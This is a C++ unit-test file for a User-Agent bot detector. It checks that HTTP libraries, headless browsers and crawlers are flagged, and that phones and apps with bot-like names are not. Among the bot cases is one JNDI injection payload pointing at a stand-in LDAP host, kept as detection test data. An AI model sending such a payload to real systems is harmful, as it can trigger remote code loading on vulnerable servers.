#include <gtest/gtest.h>

#include <initializer_list>
#include <string_view>

#include "detection/user_agent.h"
#include "sample_user_agents.h"

// Hand-written User-Agents, none from the labelled corpus (see user_agent_test.cpp).
namespace sightline::detection {
namespace {

using samples::kChromeWindows;
using samples::kSafariIphone;
using samples::kChromeAndroidPhone;

// The User-Agent level of bot detection: automation libraries, headless browsers and crawler
// vocabulary, and the near-miss humans those rules must leave alone.

struct BotCase {
  std::string_view ua;
  std::string_view name;
};

TEST(ParseUserAgent, FlagsAutomationAndCrawlers) {
  const BotCase cases[] = {
      {"curl/8.4.0", "curl"},
      {"Wget/1.21.4", "Wget"},
      {"python-requests/2.31.0", "python-requests"},
      {"Python-urllib/3.11", "Python-urllib"},
      {"Python/3.11 aiohttp/3.9.5", "Python"},
      {"python-httpx/0.27.0", "python-httpx"},
      {"Go-http-client/2.0", "Go-http-client"},
      {"Java/17.0.9", "Java"},
      {"okhttp/4.12.0", "okhttp"},
      {"axios/1.6.8", "axios"},
      {"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "node-fetch"},
      {"undici", "undici"},
      {"libwww-perl/6.72", "libwww-perl"},
      {"Scrapy/2.11.1 (+https://scrapy.org)", "Scrapy"},
      {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "HeadlessChrome/124.0.6367.60 Safari/537.36",
       "HeadlessChrome"},
      {"Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
       "PhantomJS/2.1.1 Safari/538.1",
       "PhantomJS"},
      {"Mozilla/5.0 (compatible; ExampleBot/2.1; +https://example.com/bot.html)", "ExampleBot"},
      {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleBot/1.0; "
       "+https://example.com/bot) Chrome/124.0.6367.60 Safari/537.36",
       "ExampleBot"},
      {"Examplespider/1.0", "Examplespider"},
      {"ShopCrawler/3.2 (crawler@example.com)", "ShopCrawler"},
      {"Mozilla/5.0 (compatible; SiteAuditor/1.4)", "SiteAuditor"},
      {"Mozilla/5.0 (compatible; NewsFetch/1.0)", "NewsFetch"},
      {"StatusPage uptime checker", "checker"},
      {"LinkPreviewer/2.0 (contact: ops@example.org)", "LinkPreviewer"},
      {"${jndi:ldap://x.example.net/a}", "${jndi"},  // an injection payload
      {"{{user_agent}}", "{{user_agent"},            // a template nobody filled in
      {"Mozilla/5.0 (compatible)", "Mozilla"},       // the compatibility prefix and nothing
  };
  for (const BotCase& c : cases) {
    const UserAgentInfo info = ParseUserAgent(c.ua);
    EXPECT_TRUE(info.is_bot) << c.ua;
    EXPECT_EQ(info.bot_name, c.name) << c.ua;
    EXPECT_EQ(info.device, DeviceType::kBot) << c.ua;
    EXPECT_EQ(info.signal_source, SignalSource::kBotRule) << c.ua;
    EXPECT_DOUBLE_EQ(info.device_confidence, 0.99) << c.ua;
  }
}

TEST(ParseUserAgent, BotsIgnoreClientHints) {
  ClientHints hints;
  hints.form_factors = "\"Desktop\"";
  EXPECT_EQ(ParseUserAgent("curl/8.4.0", hints).device, DeviceType::kBot);
}

// Near misses: crawler vocabulary in a phone's model or brand, and libraries named inside an
// app's own User-Agent, are not bots.
TEST(ParseUserAgent, DoesNotFlagHumansWithBotLikeWords) {
  for (std::string_view ua : std::initializer_list<std::string_view>{
           "Mozilla/5.0 (Linux; Android 12; CUBOT KINGKONG 7) AppleWebKit/537.36 (KHTML, like "
           "Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
           "Mozilla/5.0 (Linux; Android 9; Cubot Note 20) AppleWebKit/537.36 (KHTML, like "
           "Gecko) Chrome/110.0.0.0 Mobile Safari/537.36",
           "Mozilla/5.0 (Linux; Android 8.1.0; ROBOT 5 PLUS) AppleWebKit/537.36 (KHTML, like "
           "Gecko) Chrome/90.0.4430.91 Mobile Safari/537.36",
           "Mozilla/5.0 (Linux; Android 10; Spider X2) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/100.0.4896.127 Safari/537.36",
           "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/87.0.4280.88 Safari/537.36 HbbTV/1.6.1 (+DRM; Botech; 43UHD; W22;)",
           "Podcasts/1.2 (Android 13) okhttp/4.9.3",
           "TVPlayer/3.1 (AppleTV; tvOS 17.2) libcurl/8.1.2",
           "CamScanner/6.20 (iPhone; iOS 17.4; Scale/3.00)",
           "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/124.0.0.0 Mobile Safari/537.36 CheckoutApp/2.1",
           "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
           "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4 (like Gecko)",
           kChromeWindows, kSafariIphone, kChromeAndroidPhone}) {
    const UserAgentInfo info = ParseUserAgent(ua);
    EXPECT_FALSE(info.is_bot) << ua << " → " << info.bot_name;
  }
}

}  // namespace
}  // namespace sightline::detection
